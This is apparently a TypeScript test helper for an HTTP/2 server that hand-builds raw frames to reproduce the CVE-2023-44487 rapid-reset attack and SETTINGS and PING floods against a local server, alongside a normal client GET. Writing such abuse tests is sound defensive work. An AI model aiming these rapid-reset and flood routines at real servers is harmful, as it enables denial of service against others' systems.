// Raw HTTP/2 clients for what a well-behaved client library will not send
// (rapid resets, SETTINGS and PING floods), shared by the unit tests of the
// h2 server and the abuse tests against a live sidecar.
import { once } from 'node:events';
import { constants, connect as h2connect } from 'node:http2';
import { connect as netConnect, type Socket } from 'node:net';
import { H2_PREFACE } from '../../src/listener/server/preface.ts';

export const FRAME = { DATA: 0, HEADERS: 1, RST_STREAM: 3, SETTINGS: 4, PING: 6, GOAWAY: 7 } as const;
export const END_STREAM = 0x1;
export const END_HEADERS = 0x4;

export function frame(
  type: number,
  flags: number,
  streamId: number,
  payload: Buffer = Buffer.alloc(0),
): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(streamId, 5);
  return Buffer.concat([head, payload]);
}

/** HPACK: GET and http from the static table, :path /slow and :authority as literals. */
export function getSlowHeaders(authority: string): Buffer {
  return Buffer.concat([
    Buffer.from([0x82, 0x86, 0x04, 5]),
    Buffer.from('/slow'),
    Buffer.from([0x01, authority.length]),
    Buffer.from(authority),
  ]);
}

export interface RawConn {
  socket: Socket;
  /** Resolves with the GOAWAY error code the server sent, or null if the connection closed without one. */
  goaway: Promise<number | null>;
}

/** A TCP connection that has sent the preface and an empty SETTINGS, and watches for GOAWAY. */
export async function rawConnect(port: number): Promise<RawConn> {
  const socket = netConnect(port, '127.0.0.1');
  await once(socket, 'connect');
  socket.write(Buffer.concat([H2_PREFACE, frame(FRAME.SETTINGS, 0, 0)]));
  let buf = Buffer.alloc(0);
  let code: number | null = null;
  const goaway = new Promise<number | null>((resolve) => {
    socket.on('data', (chunk: Buffer) => {
      buf = Buffer.concat([buf, chunk]);
      while (buf.length >= 9) {
        const len = buf.readUIntBE(0, 3);
        if (buf.length < 9 + len) break;
        if (buf[3] === FRAME.GOAWAY && code === null) code = buf.readUInt32BE(9 + 4);
        buf = buf.subarray(9 + len);
      }
      if (code !== null) resolve(code);
    });
    socket.on('error', () => {});
    socket.on('close', () => resolve(code));
  });
  return { socket, goaway };
}

/** CVE-2023-44487: `count` GET /slow streams, each cancelled at once. */
export async function rapidReset(attacker: RawConn, authority: string, count = 2000): Promise<void> {
  const headers = getSlowHeaders(authority);
  const burst: Buffer[] = [];
  for (let i = 0; i < count; i++) {
    const id = 2 * i + 1;
    burst.push(frame(FRAME.HEADERS, END_HEADERS | END_STREAM, id, headers));
    const rst = Buffer.alloc(4);
    rst.writeUInt32BE(constants.NGHTTP2_CANCEL);
    burst.push(frame(FRAME.RST_STREAM, 0, id, rst));
  }
  // Sent in slices so that the reset streams close between reads, as on a real network.
  for (let i = 0; i < burst.length && !attacker.socket.destroyed; i += 100) {
    attacker.socket.write(Buffer.concat(burst.slice(i, i + 100)));
    await new Promise((r) => setImmediate(r));
  }
}

/** A SETTINGS frame setting MAX_CONCURRENT_STREAMS to 100, the unit of a SETTINGS flood. */
export function settingsFrame(): Buffer {
  const setting = Buffer.alloc(6);
  setting.writeUInt16BE(0x3, 0); // MAX_CONCURRENT_STREAMS
  setting.writeUInt32BE(100, 2);
  return frame(FRAME.SETTINGS, 0, 0, setting);
}

/** 20 writes of 5,000 copies of `one`, 5 ms apart, stopping if the server closes the connection. */
export async function flood(attacker: RawConn, one: Buffer): Promise<void> {
  for (let i = 0; i < 20 && !attacker.socket.destroyed; i++) {
    attacker.socket.write(Buffer.concat(Array.from({ length: 5000 }, () => one)));
    await new Promise((r) => setTimeout(r, 5));
  }
}

/** A well-behaved client's h2c GET: the response status. */
export async function h2Get(port: number, path = '/', authority?: string): Promise<number> {
  const client = h2connect(`http://127.0.0.1:${port}`);
  client.on('error', () => {});
  try {
    const req = client.request(
      authority === undefined ? { ':path': path } : { ':path': path, ':authority': authority },
    );
    req.end();
    const [headers] = (await once(req, 'response')) as [Record<string, string | number>];
    req.resume();
    await once(req, 'end');
    return Number(headers[':status']);
  } finally {
    client.close();
  }
}
